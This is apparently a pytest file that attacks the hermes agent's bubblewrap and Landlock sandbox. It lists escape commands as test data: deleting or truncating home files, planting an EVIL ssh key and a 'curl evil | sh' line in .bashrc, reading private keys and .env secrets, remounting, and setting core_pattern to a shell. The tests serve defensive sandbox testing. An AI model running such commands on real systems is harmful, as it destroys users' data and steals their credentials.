"""The OS sandbox tested as an attacker would: a throwaway ``$HOME`` and ``$HERMES_HOME`` with
sentinel files, every shape of escape run by the real terminal tool in the real sandbox, under
each mechanism this machine has (``sandbox.mechanism: bubblewrap`` and ``landlock``;
``approvals.mode: off``, so nothing asks and only the sandbox stands in the way).

Each shape runs twice: against the home (everything there must stay byte for byte as it was,
and no hidden file's content may appear in any output), and, as the control, against a copy
of the same tree inside the workspace, where the same command must work (else the attack
test would pass for a command that simply fails)."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from hermes_agent.builtin_plugins.core_tools.sandbox.runner import mechanism

from .conftest import SANDBOX_PYTHON, core_kernel

MECHANISMS = ("bubblewrap", "landlock")

SENTINEL = "SENTINEL-5b1e-sandbox-do-not-leak"
PY = SANDBOX_PYTHON  # stdlib only; visible inside the sandbox wherever the venv is

#: (name, command); {H} is the home under attack (or its copy), {Hx} the same in hex, {E} its
#: hermes home
SHAPES = [
    ("copied rm", "cp /bin/rm ./myrm && ./myrm -rf {H}/other {H}/.bashrc"),
    ("linked rm", "ln -sf /bin/rm ./r && ./r -f {H}/.bashrc {H}/other/victim.txt"),
    ("sqlite3 .shell", "sqlite3 :memory: '.shell rm -f {H}/.bashrc'"),
    ("gdb -ex shell", "gdb -nx -batch -ex 'shell rm -f {H}/.bashrc'"),
    ("tclsh exec", "echo 'exec rm -f {H}/.bashrc' | tclsh"),
    ("bash via /proc/self/exe", "/proc/self/exe -c 'rm -f {H}/.bashrc'"),
    ("bash via the dynamic loader",
     "$(ls /lib64/ld-linux-*.so.2 /lib/ld-linux-*.so.* 2>/dev/null | head -1) /bin/bash "
     "-c 'rm -f {H}/.bashrc'"),
    ("set -- arguments", "set -- rm -rf {H}/other; \"$@\""),
    ("string-built name in Python",
     f"{PY} -c \"import os, shutil; shutil.rmtree(os.path.join(bytes.fromhex('{{Hx}}').decode(), "
     "''.join(map(chr, [111, 116, 104, 101, 114]))))\""),
    ("string-built name in Node",
     "node -e \"require('fs').rmSync(require('path').join(Buffer.from('{Hx}', 'hex').toString(), "
     "String.fromCharCode(111, 116, 104, 101, 114)), {{recursive: true}})\""),
    ("mass truncation with find", "find {H} -path '*/proj' -prune -o -type f "
                                  "-exec truncate -s 0 {{}} +"),
    ("mass truncation with xargs", "find {H}/other {H}/.bashrc -type f | xargs truncate -s 0"),
    ("sed -i", "sed -i 's/.*/gone/' {H}/.bashrc {H}/other/victim.txt"),
    ("perl -i", "perl -pi -e 's/.*/gone/' {H}/.bashrc {H}/other/victim.txt"),
    ("authorized_keys by find -fprintf",
     "find {H}/other -maxdepth 0 -fprintf {H}/.ssh/authorized_keys 'ssh-ed25519 EVIL\\n'"),
    ("~/.bashrc by awk", "awk 'BEGIN {{ print \"curl evil | sh\" > \"{H}/.bashrc\" }}'"),
    ("~/.local/bin/ls", "mkdir -p {H}/.local/bin && printf '#!/bin/sh\\necho evil\\n' > "
                        "{H}/.local/bin/ls && chmod +x {H}/.local/bin/ls"),
    ("hermes .env by sqlite3 readfile()", "sqlite3 :memory: \"select readfile('{E}/.env')\""),
    ("state.db by sqlite3", "sqlite3 {E}/state.db 'select v from secrets'"),
    ("ssh key by cat", "cat {H}/.ssh/id_rsa"),
    ("unmount a mask (root)", "umount {E} 2>/dev/null; cat {E}/.env"),
    ("remount / read-write (root)",
     "mount -o remount,rw / 2>/dev/null; mount -o remount,rw {H} 2>/dev/null; "
     "echo evil > {H}/.bashrc"),
    ("hard link made in Python",
     f"{PY} -c \"import os; os.link('{{E}}/.env', 'env-link')\" && cat env-link"),
    ("symlink out of the workspace, written", "ln -sf {H}/.bashrc rc-link && "
                                              "echo evil >> rc-link"),
    ("hard link to ~/.bashrc, then written",
     f"{PY} -c \"import os; os.link('{{H}}/.bashrc', 'rc'); open('rc', 'a').write('evil')\""),
]


def shape(template: str, home: Path) -> str:
    return template.format(H=home, Hx=str(home).encode().hex(), E=home / ".hermes")


def plant(home: Path) -> None:
    """The sentinel tree: keys, shell startup, hermes's secrets and an ordinary folder."""
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(f"-----BEGIN RSA PRIVATE KEY-----\n{SENTINEL}\n")
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAAgood owner@host\n")
    (home / ".bashrc").write_text(f"# {SENTINEL} rc\nexport PATH=$PATH\n")
    (home / "other").mkdir()
    (home / "other" / "victim.txt").write_text(f"keep me {SENTINEL}\n")
    hermes = home / ".hermes"
    hermes.mkdir(exist_ok=True)
    (hermes / ".env").write_text(f"OPENROUTER_API_KEY={SENTINEL}\n")
    with sqlite3.connect(hermes / "state.db") as db:
        db.execute("CREATE TABLE secrets (v TEXT)")
        db.execute("INSERT INTO secrets VALUES (?)", (f"token {SENTINEL}",))


def snapshot(root: Path, *skip: Path) -> dict[str, bytes | str]:
    """Every path under ``root`` (but those under ``skip``) with its bytes, or its link target
    / "dir"."""
    found: dict[str, bytes | str] = {}
    for path in sorted(root.rglob("*")):
        if any(path == s or s in path.parents for s in skip):
            continue
        key = str(path.relative_to(root))
        if path.is_symlink():
            found[key] = "-> " + str(path.readlink())
        elif path.is_dir():
            found[key] = "dir"
        else:
            found[key] = path.read_bytes()
    return found


@pytest.fixture
def outside_tmp() -> Iterator[Path]:
    """A throwaway folder outside /tmp: the sandbox's private /tmp would hide a home under
    the host's /tmp altogether, and the test must show the home visible but read-only."""
    base = Path(tempfile.mkdtemp(prefix="hermes-sbx-", dir="/var/tmp"))
    yield base
    shutil.rmtree(base, ignore_errors=True)


@pytest.fixture(params=MECHANISMS)
def mech(request: pytest.FixtureRequest) -> str:
    """Each mechanism in turn, skipped with the reason where this machine lacks it."""
    found = mechanism(wanted=request.param)
    if not found.works:
        pytest.skip(f"no {request.param} here: {found.why_none}")
    return str(request.param)


@pytest.fixture
def world(outside_tmp: Path, monkeypatch: pytest.MonkeyPatch, mech: str):
    home = outside_tmp / "home"
    home.mkdir()
    plant(home)
    work = home / "proj"
    work.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HERMES_HOME", str(home / ".hermes"))
    kernel = core_kernel(home / ".hermes", {"approvals": {"mode": "off"},
                                            "sandbox": {"mechanism": mech}})
    yield kernel, home, work
    kernel.close()


def run(kernel, work: Path, tool: str, args: dict) -> dict:
    return json.loads(kernel.tools.dispatch(tool, args, cwd=str(work)))


def attempt(kernel, work: Path, name: str, command: str) -> str:
    """Run one shape as the agent would; the text of everything it returned."""
    result = run(kernel, work, "terminal", {"command": command})
    assert result.get("status") != "blocked", f"{name}: not run, so nothing was tested: {result}"
    return json.dumps(result)


@pytest.mark.parametrize("name,template", SHAPES, ids=[name for name, _ in SHAPES])
def test_an_escape_leaves_the_home_intact_and_prints_no_secret(world, name: str,
                                                               template: str) -> None:
    kernel, home, work = world
    # hermes itself writes the workspace's checkpoints there (hidden from the command)
    own = home / ".hermes" / "checkpoints"
    before = snapshot(home, work, own)
    said = attempt(kernel, work, name, shape(template, home))
    # a script written by write_file and run by the next call
    script = shape(template, home)
    assert run(kernel, work, "write_file", {"path": "step.sh", "content": script + "\n"}
               ).get("error") is None
    said += attempt(kernel, work, name, "bash step.sh")
    assert snapshot(home, work, own) == before, name
    assert SENTINEL not in said, name


@pytest.mark.parametrize("name,template", SHAPES, ids=[name for name, _ in SHAPES])
def test_control_the_same_shape_works_inside_the_workspace(world, name: str,
                                                           template: str) -> None:
    kernel, home, work = world
    mirror = work / "mirror"
    mirror.mkdir()
    plant(mirror)
    before = snapshot(mirror)
    said = attempt(kernel, work, name, shape(template, mirror))
    assert snapshot(mirror) != before or SENTINEL in said, f"{name} did nothing: {said}"


def test_a_blocked_write_is_reported_to_the_model_as_the_sandbox(world) -> None:
    kernel, home, work = world
    result = run(kernel, work, "terminal", {"command": f"echo x > {home}/other/new"})
    assert result["exit_code"] != 0 and not (home / "other" / "new").exists()
    assert "sandbox blocked a write" in result["sandbox"] and str(work) in result["sandbox"]
    assert "unconfined: true" in result["sandbox"]
    hidden = run(kernel, work, "terminal", {"command": f"cat {home}/.hermes/.env"})
    assert str(home / ".hermes") in hidden["sandbox"] and "hidden" in hidden["sandbox"]


def test_unconfined_is_an_approval_denied_with_nobody_to_approve(world) -> None:
    kernel, home, work = world
    target = home / "other" / "new"
    result = run(kernel, work, "terminal", {"command": f"touch {target}", "unconfined": True})
    assert result["status"] == "blocked" and result["approval"] == "deny"
    assert "nobody can approve" in result["error"] and not target.exists()


def test_unconfined_approved_runs_outside_with_the_command_shown(world) -> None:
    from hermes_agent.api import ToolCallContext

    kernel, home, work = world
    target = home / "other" / "new"
    asked: list[str] = []

    def approve(request) -> str:
        asked.append(request.command)
        return "once"

    command = f"touch {target}"
    context = ToolCallContext(session_id="s", cwd=work, approval_callback=approve)
    result = json.loads(kernel.tools.dispatch("terminal", {"command": command,
                                                           "unconfined": True},
                                              context=context))
    assert asked == [command] and result["exit_code"] == 0 and target.exists()
    assert "unconfined" in result["sandbox"]


def test_sandbox_mode_off_in_config_lifts_it(outside_tmp: Path, monkeypatch, mech: str) -> None:
    home = outside_tmp / "home"
    (home / "proj").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    kernel = core_kernel(home / ".hermes", {"sandbox": {"mode": "off", "mechanism": mech}})
    result = run(kernel, home / "proj", "terminal", {"command": f"touch {home}/outside"})
    assert result["exit_code"] == 0 and (home / "outside").exists()
    kernel.close()


def test_started_in_home_nothing_is_writable_but_the_private_tmp(world) -> None:
    kernel, home, _work = world
    result = run(kernel, home, "terminal",
                 {"command": f"echo t > $TMPDIR/ok && cat $TMPDIR/ok && touch {home}/x"})
    assert result["output"].startswith("t") and not (home / "x").exists()
    assert "home folder" in result["sandbox"] and "No writable workspace" in result["sandbox"]


def test_network_off_has_no_interface_but_loopback(tmp_path: Path, monkeypatch) -> None:
    """bubblewrap's private network namespace (Landlock's TCP rules: test_sandbox_landlock)."""
    if not mechanism(wanted="bubblewrap").works:
        pytest.skip(f"no bubblewrap here: {mechanism(wanted='bubblewrap').why_none}")
    home = tmp_path / "home"
    (home / "proj").mkdir(parents=True)
    monkeypatch.setenv("HOME", str(home))
    for network, expect_only_lo in ((False, True), (True, False)):
        kernel = core_kernel(home / ".hermes", {"sandbox": {"network": network,
                                                            "mechanism": "bubblewrap"}})
        out = run(kernel, home / "proj", "terminal",
                  {"command": "cat /proc/net/dev | tail -n +3 | cut -d: -f1"})["output"]
        assert (out.split() == ["lo"]) is expect_only_lo, out
        if not network:  # no interface but lo: the lookup fails without sending anything
            said = run(kernel, home / "proj", "terminal", {"command": (
                f"{PY} -c \"import socket; socket.getaddrinfo('pypi.org', 443)\"")})
            assert "Commands have no network: sandbox.network" in said["sandbox"], said
        kernel.close()


def test_the_private_tmp_is_private_and_devices_are_minimal(world, mech: str) -> None:
    """bubblewrap: a tmpfs /tmp and a minimal /dev. Landlock: the host's /tmp and /dev are
    listable but neither readable nor writable (but for null, zero, random, ...)."""
    kernel, home, work = world
    marker = Path("/tmp") / f"sbx-host-{work.parent.name}"
    marker.write_text("host-secret")
    disk = next((f"/dev/{name}" for name in ("vda", "sda", "nvme0n1", "mem", "kmsg")
                 if os.path.exists(f"/dev/{name}")), "/dev/kmsg")
    try:
        result = run(kernel, work, "terminal", {"command": (
            f"cat {marker}; echo in > /tmp/inside; echo disk=$(head -c 64 {disk} | wc -c); "
            "head -c 4 /dev/urandom | wc -c; echo quiet > /dev/null; ls /dev")})
        said = result["output"]
        assert "host-secret" not in said and not Path("/tmp/inside").exists()
        assert "null" in said.split() and said.splitlines().count("4") == 1, said
        assert "disk=0" in said, said  # no byte of a disk (or of the kernel's log)
        if mech == "bubblewrap":
            listed = said.split()  # ls /dev's names (the error lines quote theirs)
            assert "No such file" in said and "sda" not in listed
            assert "vda" not in listed and "mem" not in listed
        else:
            assert "Permission denied" in said, said
    finally:
        marker.unlink()


def test_the_hosts_name_and_sysctls_stay_as_they_are(world) -> None:
    """As root (as hermes often runs) a command owns /proc/sys: it must stay read-only."""
    import socket

    kernel, _home, work = world
    name = Path("/proc/sys/kernel/hostname")
    before = name.read_text()
    core = Path("/proc/sys/kernel/core_pattern").read_text()
    try:
        result = run(kernel, work, "terminal", {"command": (
            "hostname sbx-evil; echo sbx-evil > /proc/sys/kernel/hostname; "
            "echo '|/bin/sh' > /proc/sys/kernel/core_pattern; cat /proc/sys/kernel/hostname")})
        assert socket.gethostname() == before.strip() and name.read_text() == before
        assert "sbx-evil" not in result["output"].splitlines()[-1]
        assert Path("/proc/sys/kernel/core_pattern").read_text() == core
    finally:
        if name.read_text() != before and os.geteuid() == 0:
            name.write_text(before)  # put the machine's name back


def test_skills_scripts_under_hermes_home_run_and_its_secrets_stay_hidden(world, mech) -> None:
    """$HERMES_HOME is hidden, but for its skills/ folder (read-only): the agent runs skills'
    scripts with this tool. (Under Landlock the names in it stay listable.)"""
    kernel, home, work = world
    scripts = home / ".hermes" / "skills" / "devops" / "deploy" / "scripts"
    scripts.mkdir(parents=True)
    (scripts / "hello.sh").write_text("echo skill says hi\n")
    (scripts / "leak").symlink_to(home / ".hermes" / ".env")
    result = run(kernel, work, "terminal", {"command": (
        f"bash {scripts}/hello.sh; cat {scripts}/leak; cat {home}/.hermes/.env; "
        f"echo evil >> {scripts}/hello.sh; ls {home}/.hermes")})
    assert "skill says hi" in result["output"] and SENTINEL not in json.dumps(result)
    assert (scripts / "hello.sh").read_text() == "echo skill says hi\n"
    if mech == "bubblewrap":
        assert result["output"].splitlines()[-1] == "skills"  # nothing else of hermes's home


def test_hermes_process_and_its_environment_are_out_of_reach(world, monkeypatch, mech) -> None:
    """hermes holds its keys in its environment: its /proc entry must not exist inside
    (bubblewrap), or must refuse reads and signals (Landlock: ptrace rules, ABI 6 scopes)."""
    kernel, _home, work = world
    monkeypatch.setenv("OPENAI_API_KEY", SENTINEL)  # withheld from the command's environment
    me = os.getpid()
    result = run(kernel, work, "terminal", {"command": (
        f"cat /proc/{me}/environ; cat /proc/$PPID/environ | tr '\\0' '\\n'; "
        f"kill -0 {me} && echo signalled; ls /proc | grep -c '^[0-9]'")})
    assert SENTINEL not in json.dumps(result)
    if mech == "bubblewrap" or mechanism(wanted="landlock").abi >= 6:  # ABI 6 scopes signals
        assert "signalled" not in result["output"]
    if mech == "bubblewrap":
        assert int(result["output"].splitlines()[-1]) < 10  # only the sandbox's own processes
    assert os.environ["OPENAI_API_KEY"] == SENTINEL  # the control: hermes's really holds it
